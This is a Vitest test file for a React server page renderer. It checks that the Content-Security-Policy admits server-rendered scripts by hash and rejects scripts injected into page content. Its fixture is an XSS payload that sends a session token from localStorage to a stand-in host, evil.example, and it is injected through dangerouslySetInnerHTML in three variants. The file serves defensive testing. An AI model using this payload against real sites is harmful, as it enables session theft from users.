import { createHash } from 'node:crypto'
import type { ReactNode } from 'react'
import { Scripts, type ServerBuild } from 'react-router'
import { expect, test } from 'vitest'
import { createPageRenderer } from '#server/pages/page-render.ts'
import type { PublicReads } from '#server/pages/public-reads.ts'
import * as entryServer from './entry.server.tsx'
import { HeadScript } from './shell/head-script.tsx'

const ATTACK = 'fetch("https://evil.example/"+localStorage.getItem("sanavia.session"))'
const hashOf = (script: string) => `'sha256-${createHash('sha256').update(script).digest('base64')}'`

/** The response to a page with this content. */
function render(content: ReactNode) {
  const root = () => (
    <html lang="en">
      <head>
        <HeadScript />
      </head>
      <body>
        {content}
        <Scripts />
      </body>
    </html>
  )
  const route = { id: 'root', path: '', module: '/assets/root.js', imports: [], css: [] }
  const build = {
    entry: { module: entryServer },
    routes: { root: { id: 'root', path: '', module: { default: root } } },
    assets: {
      entry: { module: '/assets/entry.client.js', imports: [] },
      routes: { root: route },
      url: '/assets/manifest.js',
      version: '1',
    },
    basename: '/',
    publicPath: '/',
    assetsBuildDirectory: 'build',
    future: {},
    ssr: true,
    isSpaMode: false,
    prerender: [],
    routeDiscovery: { mode: 'initial' },
  } as unknown as ServerBuild
  const report = (error: unknown) => {
    throw error
  }
  const options = { origin: 'http://localhost', reads: {} as PublicReads, report, isDevelopment: false }
  return createPageRenderer(build, options)('/')
}

test('every script that the server renders is admitted by its hash, and the page carries no nonce', async () => {
  const { plain, headers } = await render(<p>Hello</p>)
  const html = plain.toString()
  const scripts = [...html.matchAll(/<script[^>]*>([\s\S]*?)<\/script>/g)].map(([, script = '']) => script)
  expect(scripts.length).toBeGreaterThan(2)
  // Outside of a build the script of the head is empty.
  for (const script of scripts.filter(Boolean)) expect(headers['content-security-policy']).toContain(hashOf(script))
  expect(html).not.toContain('nonce')
})

test.each([
  ['a script', `<script>${ATTACK}</script>`],
  ['a script with a guessed nonce', `<script nonce="x">${ATTACK}</script>`],
  ['a module', `<script type="module" async="">${ATTACK}</script>`],
])('%s that gets into the content of a page is not admitted', async (_what, markup) => {
  // biome-ignore lint/security/noDangerouslySetInnerHtml: the hole that the policy has to close
  const { plain, headers } = await render(<div dangerouslySetInnerHTML={{ __html: markup }} />)
  expect(plain.toString()).toContain('evil.example')
  const policy = String(headers['content-security-policy'])
  const injected = /<div>(<script[^>]*>)([\s\S]*?)<\/script>/.exec(plain.toString())?.[2] ?? ''
  expect(policy).not.toContain(hashOf(injected))
  expect(policy).not.toContain(hashOf(ATTACK))
})

test('a page is UTF-8, and a lone surrogate in it is replaced', async () => {
  const { plain } = await render(<p>{'Ağrı – 😀, \ud83d'}</p>)
  expect(plain.toString()).toContain('<p>Ağrı – 😀, \ufffd</p>')
})
